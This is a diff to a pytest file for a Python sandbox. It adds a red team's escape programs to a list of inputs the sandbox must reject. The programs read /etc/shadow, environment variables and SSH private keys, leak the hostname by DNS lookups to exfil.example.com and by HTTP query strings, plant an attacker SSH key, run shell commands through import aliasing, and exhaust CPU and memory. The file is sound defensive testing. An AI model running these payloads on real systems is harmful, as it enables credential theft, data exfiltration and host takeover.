@@ -3,6 +3,7 @@ write are ordinary, and every way out of the subset (an unlisted module or attri
 module handed on as a value, dunder walks, str.format fields, eval/exec/getattr, writing
 opens, computed or secret paths, constants that stall the host) holds the line."""
 
+# ruff: noqa: E501 (the red team's programs, as they were written)
 from __future__ import annotations
 
 import pytest
@@ -76,6 +77,46 @@ ESCAPES = [
     "import json; json.dump({}, open('x', 'w'))", "lambda x=__import__('os'): 1",
     "open(**{'file': '/etc/shadow'})", "x" * 5000, "import os; os.path.os.system('id')",
     "import asyncio", "async def f(): pass", "import threading", "global x",
+    # red team s10py (/work/redteam/s10py): each class of the report, as written there
+    "p = '/work/redteam/s10py/fake/' + chr(46) + 'ssh/id' + chr(95) + 'rsa'; print(open(file=p).read())",
+    "print(open(file='/proc/self/en' + 'viron').read())",
+    "print(open(file='/etc/sha' + 'dow').read())",
+    "import sys, base64; sys.argv.append('/work/redteam/s10py/fake/' + chr(46) + 'ssh/id' + chr(95) + 'rsa'); base64.main()",
+    "import socket, base64; d = base64.b32encode(open('/etc/hostname').read().encode()).decode().strip('='); print(socket.getfqdn(d.lower() + '.exfil.example.com'))",
+    "import platform; print(platform.architecture('/bin/ls'), platform.processor())",
+    'print(pow(10, 10**9 + 1) % 7)',
+    'import math; print(math.comb(10**8, 5*10**7) % 7)',
+    "n = 10**4; s = b'x' * n * n * n; print(len(s))",
+    'import itertools; print(sum(itertools.count()))',
+    "import re; print(re.match('(a|a)*b', 'a' * 60))",
+    'for i in range(10**18): pass',
+    'x = [0]; [x.append(i) for i in x]',
+    'import math; print(math.factorial(10**8) % 7)',
+    'print(len(bytearray(10**11)))',
+    'print(len(str(9**9**9)))',
+    "d = open('/dev/vda', 'rb'); d.read(1024 * 1024); print(len(d.read(4096)), 'bytes of raw disk read')",
+    "import pandas, os; p = os.path.expanduser('~') + '/' + chr(46) + 'ssh/authorized' + chr(95) + 'keys'; pandas.DataFrame({'k': ['ssh-ed25519 AAAAC3Nza-ATTACKER-KEY attacker@evil']}).to_string(p, header=False, index=False); print('ok')",
+    "import pandas; df = pandas.DataFrame({'a': [1]}); print(df.agg('to_csv', 0, '/work/redteam/s10py/agg_written.csv'))",
+    "import pandas; d = open('/etc/hostname').read().strip(); print(pandas.read_csv('http://127.0.0.1:18765/x.csv', storage_options={'X-Exfil': d}))",
+    "import pandas; d = open('/etc/hostname').read().strip(); print(pandas.read_csv(filepath_or_buffer='http://127.0.0.1:18765/?leak=' + d))",
+    "import pandas; s = pandas.Series(['x']); print(s.agg('to_pickle', 0, '/work/redteam/s10py/agg.pkl'))",
+    "import numbers, copy\nC = numbers.ABCMeta('C', (), {'__reduce_ex__': lambda self, proto: (C, (), (None, {'name': 'set-by-copy'}))})\ny = copy.copy(C()); print(y.name)",
+    'import os as m\nif 0: import platform as m\nm.system("id > /work/redteam/s10py/rce_proof.txt; echo RCE")',
+    'import os as m\nif 0: import platform as m\nm.system("id")',
+    'import shutil as m\nif 0: import copy as m\nm.copy("/work/redteam/s10py/fake/" + chr(46) + "ssh/id" + chr(95) + "rsa", "/work/redteam/s10py/copied_key.txt")',
+    "import os as m\nif 0: import platform as m\nm.system('id')",
+    "import os\nos = 1", "import socket; socket.getfqdn('x.exfil.example')",
+    "print(pow(10, 10**9 + 1) % 7)", "print(len(bytearray(10**11)))",
+    "import itertools; print(sum(itertools.count()))", "for i in range(10**18): pass",
+    "import math; print(math.factorial(10**8) % 7)", "import re; re.match('(a+)+$', 'a' * 40)",
+    "import re; p = 'x'; re.search(p, 'y')", "import platform; platform.architecture('x')",
+    "import platform; print(platform.uname())", "open('/dev/vda', 'rb').read(512)",
+    "print(open('/etc/ipsec.secrets').read())", "import os; print(os.listdir(path='/root'))",
+    "import pandas as pd; pd.read_csv('http://127.0.0.1:1/x.csv')",
+    "import pandas as pd; pd.read_csv('x.csv', storage_options={'a': 1})",
+    "import pandas as pd; pd.read_csv('x.csv', converters={'a': print})",
+    "import sys; sys.argv.append('x')", "import json; print(open(*['/etc/shadow']).read())",
+    "if 1:\n    import os\nprint(1)",
 ]
 
 
